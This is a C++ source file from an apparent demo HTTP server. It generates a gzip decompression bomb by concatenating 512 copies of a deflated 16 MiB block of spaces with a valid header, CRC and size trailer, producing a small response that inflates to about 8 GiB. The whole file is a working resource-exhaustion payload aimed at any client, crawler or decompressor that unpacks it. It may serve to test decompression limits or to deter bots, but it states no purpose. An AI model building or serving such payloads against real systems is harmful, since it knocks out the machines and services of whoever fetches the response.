#include "app/demo_server/http/gzip_bomb.h"

#include <zlib.h>

namespace dyno::demo {

namespace {

constexpr std::size_t blockSize = 16 * 1024 * 1024;
constexpr int blocks = 512;

/// Deflated blanks that end at a byte's edge and refer to nothing before them, so that copies of them can
/// stand one behind the other.
std::string deflatedBlock(const std::string& blanks) {
    z_stream stream{};
    constexpr int rawDeflate = -15;
    deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, rawDeflate, 9, Z_DEFAULT_STRATEGY);
    std::string block(deflateBound(&stream, blanks.size()), '\0');
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(blanks.data()));
    stream.avail_in = static_cast<uInt>(blanks.size());
    stream.next_out = reinterpret_cast<Bytef*>(block.data());
    stream.avail_out = static_cast<uInt>(block.size());
    deflate(&stream, Z_FULL_FLUSH);
    block.resize(stream.total_out);
    deflateEnd(&stream);
    return block;
}

void appendLittleEndian(std::string& out, uLong number) {
    for (int byte = 0; byte < 4; ++byte)
        out += static_cast<char>(number >> (8 * byte) & 0xff);
}

std::string makeBomb() {
    const std::string blanks(blockSize, ' ');
    const std::string block = deflatedBlock(blanks);
    const uLong blockSum =
        crc32(0, reinterpret_cast<const Bytef*>(blanks.data()), static_cast<uInt>(blanks.size()));
    std::string bomb("\x1f\x8b\x08\0\0\0\0\0\0\x03", 10);
    uLong sum = 0;
    for (int copy = 0; copy < blocks; ++copy) {
        bomb += block;
        sum = crc32_combine(sum, blockSum, blockSize);
    }
    bomb.append("\x03\0", 2); // an empty block that is the last
    appendLittleEndian(bomb, sum);
    appendLittleEndian(bomb, uLong{blockSize} * blocks);
    return bomb;
}

} // namespace

const std::string& gzipBomb() {
    static const std::string bomb = makeBomb();
    return bomb;
}

} // namespace dyno::demo
